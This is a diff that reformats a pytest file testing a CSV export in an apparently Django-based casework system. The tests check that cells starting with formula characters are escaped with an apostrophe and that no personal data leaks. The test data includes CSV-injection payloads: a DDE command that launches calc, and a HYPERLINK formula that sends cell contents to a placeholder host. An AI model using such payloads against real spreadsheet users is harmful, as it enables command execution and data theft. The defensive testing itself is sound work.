@@ -34,7 +34,26 @@ def export(client: Client, **chosen: str) -> list[list[str]]:
     return read(b"".join(answer.streaming_content).decode("utf-8"))  # type: ignore[attr-defined]
 
 
-@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", "  =1", " \t=1", "=", '=cmd|"/C calc"!A0'])
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠x",
+        "  =1",
+        " \t=1",
+        "=",
+        '=cmd|"/C calc"!A0',
+    ],
+)
 def test_what_a_spreadsheet_would_compute_has_an_apostrophe(cell: str) -> None:
     assert harmless(cell) == f"'{cell}"
 
@@ -44,7 +63,9 @@ def test_other_cells_stay_as_they_are(cell: str) -> None:
     assert harmless(cell) == cell
 
 
-@given(st.lists(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=2, max_size=4), max_size=5))
+@given(
+    st.lists(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=2, max_size=4), max_size=5)
+)
 def test_every_cell_comes_back_and_none_begins_a_formula(rows: list[list[str]]) -> None:
     found = read("".join(lines(["a", "b"], rows)))
     assert found[0] == ["a", "b"]
@@ -54,14 +75,24 @@ def test_every_cell_comes_back_and_none_begins_a_formula(rows: list[list[str]]) 
 
 @pytest.fixture
 def county(vault_with_mei: None, worker: User, outbox: Outbox) -> None:
-    casework.sync_areas([
-        ("5201", words("County", "县"), None), ("520101", words("=Long Township", "＝龙镇"), "5201"),
-        ("520102", words("@Lake, \"the\" Town", "湖镇，“旧”"), "5201"),
-    ])  # fmt: skip
+    casework.sync_areas(
+        [
+            ("5201", words("County", "县"), None),
+            ("520101", words("=Long Township", "＝龙镇"), "5201"),
+            ("520102", words('@Lake, "the" Town', "湖镇，“旧”"), "5201"),
+        ]
+    )
     evil = words('=HYPERLINK("http://x/?"&A1)', "+收入骤降")
-    casework.apply([[
-        outbox.signal(1, signal="odd", label=evil), outbox.signal(2, area="520102", signal="silent"), outbox.proposal(1), outbox.signal(3, area="5299"),
-    ]])  # fmt: skip
+    casework.apply(
+        [
+            [
+                outbox.signal(1, signal="odd", label=evil),
+                outbox.signal(2, area="520102", signal="silent"),
+                outbox.proposal(1),
+                outbox.signal(3, area="5299"),
+            ]
+        ]
+    )
     worker.last_name = "-1+1"
     worker.first_name = ""
     worker.save()
@@ -81,8 +112,8 @@ def test_the_file_is_the_list_in_its_order(county: None, worker: User, signed_in
 def test_what_names_say_is_no_formula(county: None, worker: User, signed_in: SignIn) -> None:
     rows = {row[1]: row for row in export(signed_in(worker), list="all")}
     row = rows[Case.objects.get(household_id=1).reference]
-    assert (row[2], row[4], row[6]) == ("'=Long Township", "'=HYPERLINK(\"http://x/?\"&A1)", "'-1+1")
-    assert rows[Case.objects.get(household_id=2).reference][2] == "'@Lake, \"the\" Town"
+    assert (row[2], row[4], row[6]) == ("'=Long Township", '\'=HYPERLINK("http://x/?"&A1)', "'-1+1")
+    assert rows[Case.objects.get(household_id=2).reference][2] == '\'@Lake, "the" Town'
 
 
 @pytest.mark.django_db
@@ -96,7 +127,9 @@ def test_it_is_in_chinese_and_opens_as_such(county: None, worker: User, signed_i
 
 
 @pytest.mark.django_db
-def test_it_holds_no_personal_data_and_nothing_of_others(county: None, worker: User, strangers: list[User], signed_in: SignIn) -> None:
+def test_it_holds_no_personal_data_and_nothing_of_others(
+    county: None, worker: User, strangers: list[User], signed_in: SignIn
+) -> None:
     rows = export(signed_in(worker), list="all")
     told = " ".join(cell for row in rows for cell in row)
     assert not [secret for secret in (NAME, NUMBER, PHONE, "812.5", "1,702.5") if secret in told]
